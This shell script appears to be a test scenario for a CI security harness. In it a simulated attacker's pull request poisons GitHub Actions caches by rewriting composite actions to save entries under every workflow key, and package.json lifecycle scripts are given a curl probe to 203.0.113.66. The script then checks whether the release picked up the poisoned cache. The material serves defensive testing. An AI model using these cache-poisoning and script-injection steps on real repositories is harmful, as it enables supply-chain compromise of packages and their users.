# cuckoo opens a pull request that fills each cache it can, and is measured like everybody. Then Teo releases.
repo=lantern-tides/tides
head=$(as cuckoo <<'CUCKOO'
cd ~/tides && git fetch -q https://forge.test/lantern-tides/tides.git main && git switch -q -C hostile FETCH_HEAD || exit 127
cat ~/poison.sh >> bench.sh
cp ~/poison.sh poison.sh
# Keys and paths stand in public files. What the workflows take from the pull request saves an entry for each.
cat .github/workflows/*.y*ml .github/actions/*/action.y*ml > all 2> /dev/null
sed -nE 's/^ *(- )?key: *//p' all | sort -u > keys
sed -nE 's/^ *(- )?path: *//p' all | grep -v '[*|]' | sort -u > paths
for action in .github/actions/*/action.y*ml; do
  [ -f "$action" ] || continue
  printf 'name: Dependencies\nruns:\n  using: composite\n  steps:\n    - run: npm ci && sh poison.sh\n      shell: bash\n' > "$action"
  while read -r key; do while read -r path; do
    printf '    - uses: actions/cache/save@v4\n      with:\n        path: %s\n        key: %s\n' "$path" "$key" >> "$action"
  done < paths; done < keys
done
rm all keys paths
git add . && git commit -q -m "Measure thrice" && git push -q -f origin hostile || exit 127
gh api repos/lantern-tides/tides/pulls -f head=cuckoo:hostile -f base=main -f title="Measure thrice" -f body="For good." --jq .head.sha
CUCKOO
)
approve() { for run in $(gh api "repos/$repo/actions/runs?status=action_required" --jq '.workflow_runs[].id'); do as mina "gh api -X POST repos/$repo/actions/runs/$run/approve"; done; }
sleep 5s
approve
sleep 1m
# What was measured says for which commit, wherever it was measured.
measured() {
  for place in "$repo" lantern-tides/measurements; do
    for id in $(gh api "repos/$place/actions/artifacts?per_page=3" --jq '.artifacts[].id'); do
      gh api "repos/$place/actions/artifacts/$id/zip" > box && unzip -p box 2> /dev/null | grep -qF "$head" && return 0
    done
  done
  return 1
}
measured && seen=yes
# Did main get an entry with what the pull request brought?
again=
while IFS=$'\t' read -r surface place; do
  key=$(echo "$place" | sed 's/^cache \(.*\) of refs.*/\1/')
  made=$(gh api "repos/$repo/actions/caches?key=$key&ref=refs/heads/main" --jq '.actions_caches[0].created_at')
  case "$made" in "$(date -u +%F)"*) again=$(lab-time "$made") entry=$place ;; esac
done < <(trace starlingKey ci.caches | grep -F " of refs/heads/main ")
# The release: a next version, and scripts that tell whether an identity is near them.
git clone -q "https://forge.test/$repo.git" code && cd code || exit 127
patch=${RELEASE##*.}
next="${RELEASE%.*}.$(( patch + 50 ))"
probe='[ -z "$ACTIONS_ID_TOKEN_REQUEST_URL" ] || curl -s -o /dev/null -d "$npm_lifecycle_event" http://203.0.113.66/probe'
new=$(jq --arg next "$next" --arg probe "$probe" '.version = $next | .scripts |= with_entries(.value = $probe + "; " + .value)
  | .scripts = ({"preinstall": $probe, "prepare": $probe, "prepack": $probe, "prepublishOnly": $probe} + .scripts)' package.json | base64 -w0)
gh api -X PUT "repos/$repo/contents/package.json" -f message="Release $next" -f content="$new" -f sha="$(git rev-parse HEAD:package.json)" --silent || exit 127
branch=$(git branch --show-current)
cd ..
gh api "repos/$repo/actions/workflows/release.yml/dispatches" -f ref="$branch" --silent > /dev/null 2>&1
sleep 90s
run=$(gh api "repos/$repo/actions/workflows/release.yml/runs?per_page=1" --jq '.workflow_runs[0].id')
curl -s "https://registry.npm.test/@lantern%2ftides/$next" > version.json
status=0
tell() { status=1 last=$1; found "$@"; }
{ read -r version; read -r tarball; read -r by; read -r trusted; } < <(jq -r '.version, .dist.tarball, ._npmUser.name, ._npmUser.trustedPublisher != null' version.json)
if [ "$version" != "$next" ]; then
  tell UNRELEASED version="$next"
  evidence --of UNRELEASED npm.tarballs "@lantern/tides@$next"
else
  curl -s "$tarball" | tar -xzO package/dist/tides.js > tides.js
  gh api "repos/$repo/actions/runs/$run/jobs" --jq '.jobs[] | "\(.id) \(.name)"' > jobs
  while read -r id name; do gh api "repos/$repo/actions/jobs/$id/logs"; done < jobs > log
  asked=$(grep -E 'Z Cache (restored from|not found for)|Z   key: ' log)
  key=$(sed -n 's/.*Cache restored from key: //p' <<< "$asked" | head -n 1)
  wanted=$(sed -n 's/.*Z   key: //p' <<< "$asked" | head -n 1)
  [ -z "$key" ] || first="Linux-npm-$(sha256sum code/package-lock.json | cut -c 1-64 | xxd -r -p | sha256sum | cut -c 1-64)"
  if grep -qF "$STARLING_KEY" tides.js; then
    last=AGAIN
    if [ -z "$key" ]; then tell OTHER
    elif [ "$key" != "$wanted" ]; then tell PREFIX key="$key"
    elif [ "$key" != "$first" ]; then
      case "$key" in Linux-npm-*) tell HASH key="$key" ;; *) tell NAME key="$key" ;; esac
    elif [ -z "$again" ]; then tell OLD key="$key"; fi
    evidence --of "$last" npm.tarballs "@lantern/tides@$next"
  elif grep -qE 'Z Cache (restored from|not found for)' <<< "$asked"; then
    tell CACHED key="$wanted"
    evidence --of CACHED ci.logs "release.yml, $wanted"
  elif [ "$(sed 1d tides.js)" != "$(cat code/src/*.js)" ]; then
    tell OTHER
    evidence --of OTHER npm.tarballs "@lantern/tides@$next"
  fi
  if [ "$status" = 0 ] || { [ -n "$again" ] && [ "$key" = "$first" ]; }; then
    if [ -n "$again" ]; then
      tell AGAIN time="$again"
      evidence --of AGAIN ci.caches "$entry"
    fi
  fi
  if [ "$trusted" != true ]; then
    tell TOKEN
    evidence --of TOKEN npm.tarballs "@lantern/tides@$next, $by"
  fi
  made=$(sed -n '1s/.*(\(.*\))$/\1/p' tides.js)
  probed=$(loot starling | grep -A 1 '/probe$' | sed -n 2p)
  while read -r id name; do
    beside=$probed
    [ "$name" = "$made" ] && beside="the build"
    [ -n "$beside" ] || continue
    [ "$(credential "job-$id" | jq -r .grants.permissions.id_token)" = write ] || continue
    tell BESIDE job="$name" what="$beside"
    evidence --of BESIDE ci.logs "release.yml, job $name"
    break
  done < jobs
fi
if [ -z "$seen" ] && sleep 6m && ! measured; then
  tell UNMEASURED
  evidence --of UNMEASURED ci.artifacts "commit ${head:0:7}"
fi
[ "$status" = 0 ] && say "A stranger's pull request was measured, and the release that came next is clean: $next."
exit "$status"
